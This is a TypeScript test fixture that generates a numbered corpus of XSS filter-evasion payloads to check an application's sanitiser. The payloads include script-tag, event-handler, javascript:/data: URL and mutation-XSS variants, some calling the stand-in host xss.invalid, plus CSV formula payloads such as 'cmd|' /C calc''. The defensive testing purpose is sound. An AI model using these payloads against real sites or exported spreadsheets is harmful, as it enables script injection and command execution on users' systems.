/**
 * The XSS corpus: classic filter-evasion payloads (OWASP cheat-sheet families), written for this
 * project. Every payload, if it ever ran, leaves a trace the guard sees: a dialog (alert/confirm),
 * `window.__xss` set, or a request to `https://xss.invalid/<n>` (any foreign host counts).
 * `n` is the payload's number, so a trace names the payload that ran.
 */

export type Payload = { n: number; family: string; text: string };

const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64");

/** Payload templates; `n` is substituted when the corpus is built. */
const templates: { family: string; make: (n: number) => string }[] = [
  // script tags, mixed case, broken tags, breaking out of attributes and raw-text elements
  { family: "script", make: (n) => `<script>alert(${n})</script>` },
  { family: "script", make: (n) => `<SCRIPT SRC=https://xss.invalid/${n}.js></SCRIPT>` },
  { family: "script", make: (n) => `<ScRiPt>window.__xss=${n}</sCrIpT>` },
  { family: "script", make: (n) => `"><script>alert(${n})</script>` },
  { family: "script", make: (n) => `'><script>confirm(${n})</script>` },
  { family: "script", make: (n) => `</textarea><script>alert(${n})</script>` },
  { family: "script", make: (n) => `</title><script>alert(${n})</script>` },
  { family: "script", make: (n) => `</script><script>window.__xss=${n}</script>` },
  { family: "script", make: (n) => `<<SCRIPT>alert(${n});//<</SCRIPT>` },
  { family: "script", make: (n) => `<scr<script>ipt>alert(${n})</scr</script>ipt>` },
  { family: "script", make: (n) => `<img """><script>alert(${n})</script>">` },
  { family: "script", make: (n) => `--><script>alert(${n})</script><!--` },
  { family: "script", make: (n) => `<script>new Image().src='https://xss.invalid/${n}'</script>` },
  { family: "script", make: (n) => `<scr\u200bipt>alert(${n})</script>` },
  // img / svg / media event handlers
  { family: "img", make: (n) => `<img src=x onerror=alert(${n})>` },
  { family: "img", make: (n) => `<IMG SRC=x OnErRoR=window.__xss=${n}>` },
  { family: "img", make: (n) => `<img src="https://xss.invalid/${n}">` },
  { family: "img", make: (n) => `<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;${n}&#41;">` },
  { family: "img", make: (n) => `<IMG SRC=JaVaScRiPt:alert(${n})>` },
  { family: "img", make: (n) => `<img src=x:alert(${n}) onerror=eval(src)>` },
  { family: "img", make: (n) => `<img src=x onerror=fetch('https://xss.invalid/${n}')>` },
  { family: "img", make: (n) => `<img src=https://xss.invalid/${n} srcset="https://xss.invalid/${n} 1x">` },
  { family: "svg", make: (n) => `<svg onload=alert(${n})>` },
  { family: "svg", make: (n) => `<svg/onload=window.__xss=${n}>` },
  { family: "svg", make: (n) => `<svg><script>alert(${n})</script></svg>` },
  { family: "svg", make: (n) => `<svg><animate onbegin=alert(${n}) attributeName=x dur=1s>` },
  { family: "svg", make: (n) => `<svg><a xlink:href="javascript:alert(${n})"><text x=20 y=20>点我</text></a></svg>` },
  { family: "media", make: (n) => `<video><source onerror=alert(${n})></video>` },
  { family: "media", make: (n) => `<audio src=x onerror=alert(${n})>` },
  // javascript: and data: links
  { family: "javascript:", make: (n) => `javascript:alert(${n})` },
  { family: "javascript:", make: (n) => `<a href="javascript:alert(${n})">点击查看</a>` },
  { family: "javascript:", make: (n) => `<a href="JaVaScRiPt:alert(${n})">详情</a>` },
  { family: "javascript:", make: (n) => `<a href="jav&#x09;ascript:alert(${n})">链接</a>` },
  { family: "javascript:", make: (n) => `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(${n})">编码链接</a>` },
  { family: "javascript:", make: (n) => ` \tjavascript:window.__xss=${n}` },
  { family: "data:", make: (n) => `data:text/html;base64,${b64(`<script>alert(${n})</script>`)}` },
  { family: "data:", make: (n) => `<a href="data:text/html,<script>alert(${n})</script>">数据链接</a>` },
  { family: "data:", make: (n) => `<object data="data:text/html;base64,${b64(`<script>parent.__xss=${n}</script>`)}"></object>` },
  // other on* attributes
  { family: "on*", make: (n) => `<body onload=alert(${n})>` },
  { family: "on*", make: (n) => `<div onmouseover="alert(${n})" style="position:fixed;inset:0">覆盖全屏</div>` },
  { family: "on*", make: (n) => `<input autofocus onfocus=alert(${n})>` },
  { family: "on*", make: (n) => `<details open ontoggle=alert(${n})>` },
  { family: "on*", make: (n) => `<marquee onstart=alert(${n})>跑马灯</marquee>` },
  { family: "on*", make: (n) => `<x onclick=alert(${n})>点我</x>` },
  { family: "on*", make: (n) => `" onmouseover="alert(${n})` },
  { family: "on*", make: (n) => `' autofocus onfocus='confirm(${n})` },
  // style
  { family: "style", make: (n) => `<div style="width:expression(alert(${n}))">旧版IE</div>` },
  { family: "style", make: (n) => `<div style="background:url(javascript:alert(${n}))">背景</div>` },
  { family: "style", make: (n) => `<div style="background-image:url(https://xss.invalid/${n})">背景图</div>` },
  { family: "style", make: (n) => `<style>@import 'https://xss.invalid/${n}.css';</style>` },
  { family: "style", make: (n) => `<link rel=stylesheet href=https://xss.invalid/${n}.css>` },
  // frames, objects, forms, meta refresh, base, template
  { family: "iframe", make: (n) => `<iframe src="javascript:alert(${n})"></iframe>` },
  { family: "iframe", make: (n) => `<iframe srcdoc="<script>parent.__xss=${n}</script>"></iframe>` },
  { family: "iframe", make: (n) => `<iframe srcdoc="&lt;img src=x onerror=alert(${n})&gt;"></iframe>` },
  { family: "object", make: (n) => `<embed src="https://xss.invalid/${n}">` },
  { family: "form", make: (n) => `<form action="javascript:alert(${n})"><button>提交</button></form>` },
  { family: "form", make: (n) => `<button formaction=javascript:alert(${n})>按钮</button>` },
  { family: "meta", make: (n) => `<meta http-equiv="refresh" content="0;url=javascript:alert(${n})">` },
  { family: "meta", make: (n) => `<meta http-equiv="refresh" content="0;url=https://xss.invalid/${n}">` },
  { family: "base", make: (n) => `<base href="https://xss.invalid/${n}/">` },
  { family: "template", make: (n) => `<template><img src=x onerror=alert(${n})></template>` },
  { family: "mxss", make: (n) => `<math><mtext><table><mglyph><style><img src=x onerror=alert(${n})>` },
  { family: "mxss", make: (n) => `<noscript><p title="</noscript><img src=x onerror=alert(${n})>">` },
  { family: "mxss", make: (n) => `<!--<img src="--><img src=x onerror=alert(${n})//">` },
  // encoded variants (must show literally)
  { family: "encoded", make: (n) => `&lt;script&gt;alert(${n})&lt;/script&gt;` },
  { family: "encoded", make: (n) => `%3Cscript%3Ealert(${n})%3C%2Fscript%3E` },
  { family: "encoded", make: (n) => `\\u003cscript\\u003ealert(${n})\\u003c/script\\u003e` },
  { family: "encoded", make: (n) => `＜script＞alert(${n})＜/script＞` },
  { family: "encoded", make: (n) => `<img src=x onerror=\\u0061lert(${n})>` },
  // template / string break-outs, Markdown
  { family: "template", make: (n) => `{{constructor.constructor('alert(${n})')()}}` },
  { family: "template", make: (n) => `\${alert(${n})}` },
  { family: "string", make: (n) => `';alert(${n});//` },
  { family: "string", make: (n) => `";window.__xss=${n};//` },
  { family: "markdown", make: (n) => `[点击](javascript:alert(${n}))` },
  { family: "markdown", make: (n) => `![图](https://xss.invalid/${n}.png)` },
  // Chinese text around the markup
  { family: "chinese", make: (n) => `建议加强<img src=x onerror=alert(${n})>党建工作，落实“三会一课”制度` },
  { family: "chinese", make: (n) => `关于<svg onload=window.__xss=${n}>的意见：请各支部认真学习贯彻` },
  { family: "chinese", make: (n) => `支部书记述职评议<a href="javascript:alert(${n})">（详见附件）</a>，请审核` },
  // very long strings
  { family: "long", make: (n) => `${"长".repeat(1850)}<img src=x onerror=alert(${n})>` },
  { family: "long", make: (n) => `<script>alert(${n})</script>建议`.repeat(160) },
];

export const corpus: Payload[] = templates.map((t, i) => ({ n: i + 1, family: t.family, text: t.make(i + 1).trim() }));

/** Payloads that fit a field of at most `max` characters (fields trim, so the corpus is trimmed). */
export function fitting(payloads: Payload[], max: number, min = 1): Payload[] {
  return payloads.filter((p) => p.text.length <= max && p.text.length >= min);
}

/** The subset for the short form: one of each family first, then the rest, cut at `count`. */
export function sample(count: number): Payload[] {
  const seen = new Set<string>();
  const firsts: Payload[] = [];
  const rest: Payload[] = [];
  for (const p of corpus) {
    if (seen.has(p.family)) rest.push(p);
    else {
      seen.add(p.family);
      firsts.push(p);
    }
  }
  return [...firsts, ...rest].slice(0, count).sort((a, b) => a.n - b.n);
}

/** Several payloads joined into one text of at most `max` characters (for fields shown only once). */
export function bundles(payloads: Payload[], max: number): { text: string; payloads: Payload[] }[] {
  const out: { text: string; payloads: Payload[] }[] = [];
  let current: Payload[] = [];
  const textOf = (ps: Payload[]) => ps.map((p) => p.text).join(" ");
  for (const p of payloads) {
    if (p.text.length > max) continue;
    if (current.length && textOf([...current, p]).length > max) {
      out.push({ text: textOf(current), payloads: current });
      current = [];
    }
    current.push(p);
  }
  if (current.length) out.push({ text: textOf(current), payloads: current });
  return out;
}

/** Values for URL-like places (href, src, callbackUrl). */
export const urlPayloads: (n: number) => string[] = (n) => [
  `javascript:alert(${n})`,
  `JaVaScRiPt:window.__xss=${n}`,
  ` javascript:confirm(${n})`,
  `java\tscript:alert(${n})`,
  `data:text/html,<script>alert(${n})</script>`,
  `data:text/html;base64,${b64(`<script>alert(${n})</script>`)}`,
  `vbscript:msgbox(${n})`,
  `https://xss.invalid/${n}`,
  `//xss.invalid/${n}`,
];

/** Spreadsheet formula payloads for the CSV / .xlsx exports. */
export const formulaPayloads = [
  `=HYPERLINK("https://xss.invalid/csv","点击查看")`,
  "+cmd|' /C calc'!A0",
  "-1+1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=1+1",
  "＝1+1",
];
